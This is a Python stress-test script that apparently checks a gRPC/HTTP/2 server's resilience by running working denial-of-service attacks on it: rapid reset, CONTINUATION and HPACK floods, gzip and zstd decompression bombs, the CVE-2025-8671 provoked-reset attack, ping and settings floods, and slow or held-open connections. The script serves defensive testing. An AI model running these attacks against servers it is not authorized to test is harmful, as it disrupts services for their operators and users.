"""Attacks a server in every way that is listed here, and says what it did not withstand.

    python3 attack.py ADDRESS REQUEST

REQUEST: a DraftRejectionRequest that is accepted, in hexadecimal digits. Connections that wait or hold something stay
open while the other attacks go on.
"""

import gzip
import random
import socket
import struct
import sys
import traceback

from hyperframe.frame import ContinuationFrame, DataFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame, WindowUpdateFrame

from wire import BATCH, PREFACE, WATCH, Closed, Wire, message

ADDRESS, REQUEST = sys.argv[1], bytes.fromhex(sys.argv[2])
# Connections that are held open to the end.
HELD = []
random.seed(8)


def refused(answer, *codes):
    """Checks that a call came back with one of these gRPC codes."""
    assert answer.get("grpc-status") in {str(code) for code in codes}, answer


def honest_request():
    with Wire(ADDRESS) as wire:
        refused(wire.call(message(REQUEST)), 0)


def malformed_protobuf():
    with Wire(ADDRESS) as wire:
        for body in (b"\xff" * 200, b"\x0a\xff\xff\xff\xff\x0f", REQUEST[:-1], b"\x07", b"\x0a\x02\xff\xfe", b"\x2a" * 9_999):
            refused(wire.call(message(body)), 3, 13)
        # Messages in messages, far deeper than any request.
        deep = b""
        for _ in range(5_000):
            deep = b"\x2a" + varint(len(deep)) + deep
        refused(wire.call(message(deep)), 3, 13)


def varint(number):
    out = b""
    while number > 127:
        out += bytes([number % 128 + 128])
        number //= 128
    return out + bytes([number])


def length_prefix_of_4_gib():
    with Wire(ADDRESS) as wire:
        for flag in (0, 1):
            extra = [("grpc-encoding", "gzip")] if flag else []
            refused(wire.call(bytes([flag]) + b"\xff\xff\xff\xff" + b"x" * 50, extra, end=False), 3, 8, 11)


def truncated_frames():
    with Wire(ADDRESS) as wire:
        for body in (message(REQUEST)[:-1], message(REQUEST)[:3], b"\0\0\0\0\x09", b""):
            answer = wire.call(body)
            assert answer.get("grpc-status") != "0", answer
    for length in (1, 100, 16_384):
        with Wire(ADDRESS) as wire:
            wire.raw(wire.headers().serialize() + struct.pack(">I", length)[1:] + b"\0\0\0\0\0\x01")
    with Wire(ADDRESS) as wire:
        wire.raw(b"\xff\xff\xff\0\0\0\0\0\x01")
        wire.closed()


def gzip_bomb():
    bomb = gzip.compress(bytes(56 << 20), 9)
    # It fits into the window that every stream begins with.
    assert len(bomb) < 60_000
    for path in (None, BATCH):
        with Wire(ADDRESS) as wire:
            for _ in range(5):
                answer = wire.call(message(bomb, 1), [("grpc-encoding", "gzip")], **({"path": path} if path else {}))
                refused(answer, 8, 11)


def zstd_bomb():
    # RFC 8878: a frame without a content size, and 2,000 blocks that each repeat a byte 131,072 times.
    block = (1 << 1 | 131_072 << 3).to_bytes(3, "little") + b"\0"
    last = (1 | 1 << 1 | 1 << 3).to_bytes(3, "little") + b"\0"
    with Wire(ADDRESS) as wire:
        for window in (0x38, 0x50, 0xA8):
            bomb = b"\x28\xb5\x2f\xfd\x00" + bytes([window]) + block * 2_000 + last
            refused(wire.call(message(bomb, 1), [("grpc-encoding", "zstd")]), 8, 11, 13)


def headers_of_21_kb():
    with Wire(ADDRESS) as wire:
        # In frames of the size that every server takes.
        for value in ("x" * 10_500, "é" * 5_250):
            frame = wire.headers(extra=[("x-one", value), ("x-two", value)], flags=[])
            block, frame.data = frame.data, frame.data[:16_000]
            wire.send(frame, ContinuationFrame(wire.last, block[16_000:], flags=["END_HEADERS"]))
            answer = wire.answer(wire.last)
            assert answer.get(":status") == "431" or "reset" in answer or "closed" in answer, answer
            if "closed" in answer:
                return


def unknown_encodings():
    with Wire(ADDRESS) as wire:
        for encoding in ("br", "deflate", "snappy", "GZIP", "gzip, zstd", "x" * 500, "é", ""):
            answer = wire.call(message(REQUEST, 1), [("grpc-encoding", encoding)])
            refused(answer, 12)
            assert "gzip" in answer["grpc-accept-encoding"], answer
        refused(wire.call(message(REQUEST, 1)), 3, 12, 13)
        for flag in (2, 255):
            refused(wire.call(message(REQUEST, flag)), 3, 12, 13)


def malformed_timeouts():
    with Wire(ADDRESS) as wire:
        for timeout in ("", "S", "1", "-1S", "1.5S", "123456789S", "1s", "1 S", "٣S", "S1", "1SS", "+1S"):
            refused(wire.call(message(REQUEST), [("grpc-timeout", timeout)]), 3)
        refused(wire.call(message(REQUEST), [("grpc-timeout", "0n")]), 4)


def rapid_reset():
    for _ in range(10):
        with Wire(ADDRESS) as wire:
            try:
                for _ in range(100):
                    frames = []
                    for _ in range(100):
                        frames += [wire.headers(), RstStreamFrame(wire.last, error_code=8)]
                    wire.send(*frames)
            except Closed:
                continue
            wire.closed()


def continuation_flood():
    for _ in range(5):
        with Wire(ADDRESS) as wire:
            try:
                wire.send(wire.headers(flags=[]))
                for number in range(20_000):
                    field = wire.encoder.encode([(f"x-{number}", "x" * 1_000)])
                    wire.send(ContinuationFrame(wire.last, field))
            except Closed:
                continue
            wire.closed()


def flood(name, frame, before=lambda wire: None):
    """As many frames as the server takes, up to 200,000, and no answer read."""
    wire = Wire(ADDRESS)
    HELD.append(wire)
    before(wire)
    many = frame.serialize() * 1_000
    wire.socket.settimeout(1)
    try:
        for _ in range(200):
            wire.raw(many)
    except (Closed, socket.timeout):
        # It has had enough, or reads no more until its answers are taken: both are fine.
        pass


def hpack_bomb():
    """Headers of some kilobytes that mean megabytes: a long field, then its place in the table over and over."""
    for _ in range(20):
        wire = Wire(ADDRESS)
        HELD.append(wire)
        wire.send(wire.headers(extra=[("x-long", "x" * 3_900)], flags=["END_HEADERS", "END_STREAM"]))
        frame = wire.headers()
        # The youngest entry of the dynamic table (RFC 7541, section 2.3.3).
        frame.data += b"\xbe" * 15_000
        wire.send(frame)
        answer = wire.answer(wire.last)
        assert answer.get(":status") == "431" or "reset" in answer or "closed" in answer, answer


def window_overflow():
    for stream in (0, 1):
        with Wire(ADDRESS) as wire:
            much = WindowUpdateFrame(stream, window_increment=2**31 - 1)
            wire.send(wire.headers(), much, much)
            answer = wire.answer(1)
            assert "reset" in answer or "closed" in answer, answer


def provoked_resets():
    """Mistakes for which the server has to reset the stream: it must not go on for ever (CVE-2025-8671)."""
    with Wire(ADDRESS) as wire:
        try:
            for _ in range(2_000):
                frame = wire.headers()
                much = WindowUpdateFrame(wire.last, window_increment=2**31 - 1)
                wire.send(frame, much, much)
        except Closed:
            return
        wire.closed()


def watches_of_health():
    """Streams without an end, which need no token: 10,000 of them."""
    for _ in range(40):
        wire = Wire(ADDRESS)
        HELD.append(wire)
        for _ in range(250):
            wire.send(wire.headers(WATCH), DataFrame(wire.last, message(b""), flags=["END_STREAM"]))


def empty_data_flood():
    flood("DATA", DataFrame(1), lambda wire: wire.send(wire.headers()))


def ping_flood():
    flood("PING", PingFrame(0, b"12345678"))


def settings_flood():
    flood("SETTINGS", SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65_535}))


def readers_that_never_read():
    for settings in ({}, {SettingsFrame.INITIAL_WINDOW_SIZE: 0}):
        for _ in range(5):
            wire = Wire(ADDRESS, settings)
            HELD.append(wire)
            for _ in range(40):
                wire.send(wire.headers(), DataFrame(wire.last, message(REQUEST), flags=["END_STREAM"]))
    # Streams of items whose answers nobody takes: once its buffers are full, the server takes no more items.
    item = message(b"\x12" + varint(len(REQUEST)) + REQUEST)
    for _ in range(10):
        wire = Wire(ADDRESS)
        HELD.append(wire)
        wire.send(wire.headers(BATCH))
        taken = wire.pour(item * 20, 10_000)
        assert taken < 10_000, "the server takes in without end what it cannot answer"


def field(number, payload):
    return varint(number << 3 | 2) + varint(len(payload)) + payload


def large_request():
    """The request with all that it may hold, of letters that grow when they are escaped, in every form and language."""
    words = b"".join(field(1, field(1, language) + field(2, b"<" * 1_000)) for language in (b"de", b"en", b"es", b"fr"))
    lists = b"".join(field(number, field(2, words)) * 20 for number in (1, 2, 3))
    languages = b"".join(field(1, language) for language in (b"de", b"en", b"en-GB", b"es", b"fr-CA"))
    return REQUEST + languages + field(3, lists) + field(18, b"\1\2\3") + field(16, b"\x08\2")


def large_answers_that_nobody_reads():
    item = message(field(2, large_request()))
    for number in range(60):
        # A window of one byte is room, and room is what an answer waits for.
        wire = Wire(ADDRESS, {SettingsFrame.INITIAL_WINDOW_SIZE: number % 2})
        HELD.append(wire)
        wire.send(wire.headers(BATCH))
        wire.upload(item)
        # The head of the next answer waits for no window: it comes once the large one is made.
        wire.send(wire.headers(), DataFrame(wire.last, message(REQUEST), flags=["END_STREAM"]))
        next(frame for frame in wire.frames() if isinstance(frame, HeadersFrame) and frame.stream_id == wire.last)


def half_open_streams():
    for _ in range(5):
        wire = Wire(ADDRESS)
        HELD.append(wire)
        for _ in range(100):
            wire.send(wire.headers(), DataFrame(wire.last, message(REQUEST)[:20]))


def requests_that_never_end():
    """Messages that are a thousand times as large once they are read, on streams that stay open."""
    phrases = field(3, field(1, b"") * 130_000)
    body = message(gzip.compress(phrases), 1)
    wire = Wire(ADDRESS)
    HELD.append(wire)
    for _ in range(100):
        wire.send(wire.headers(extra=[("grpc-encoding", "gzip")]), DataFrame(wire.last, body))


def junk_on_the_port():
    hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(random.randbytes(300))
    http = b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n"
    for junk in (hello, http, b"\0" * 1_000, PREFACE[:10] + b"junk" * 9, *(random.randbytes(500) for _ in range(50))):
        sent_and_closed(junk)
    for _ in range(50):
        sent_and_closed(PREFACE + b"\xff" * 9 + random.randbytes(500))
        sent_and_closed(PREFACE + SettingsFrame(0).serialize() + b"\0\0\x05\x01\x04\0\0\0\x01" + random.randbytes(5) + b"\xff" * 99)


def sent_and_closed(junk):
    host, port = ADDRESS.rsplit(":", 1)
    with socket.create_connection((host, int(port)), 20) as connection:
        try:
            connection.sendall(junk)
            while connection.recv(65_536):
                pass
        except (BrokenPipeError, ConnectionResetError):
            pass


def slow_headers():
    slow = [Wire(ADDRESS) for _ in range(200)]
    HELD.extend(slow)
    frames = [wire.headers(extra=[("x", "y" * 50)]).serialize() for wire in slow]
    for at in range(60):
        for wire, frame in zip(slow, frames):
            wire.raw(frame[at : at + 1])


ATTACKS = [
    honest_request,
    slow_headers,
    half_open_streams,
    requests_that_never_end,
    readers_that_never_read,
    large_answers_that_nobody_reads,
    malformed_protobuf,
    length_prefix_of_4_gib,
    truncated_frames,
    gzip_bomb,
    zstd_bomb,
    headers_of_21_kb,
    unknown_encodings,
    malformed_timeouts,
    rapid_reset,
    continuation_flood,
    hpack_bomb,
    window_overflow,
    provoked_resets,
    watches_of_health,
    empty_data_flood,
    ping_flood,
    settings_flood,
    junk_on_the_port,
    honest_request,
]

failed = 0
for attack in ATTACKS:
    try:
        attack()
        print(f"{attack.__name__}: withstood", flush=True)
    except Exception:
        failed += 1
        print(f"{attack.__name__}: NOT withstood\n{traceback.format_exc()}", flush=True)
sys.exit(failed)
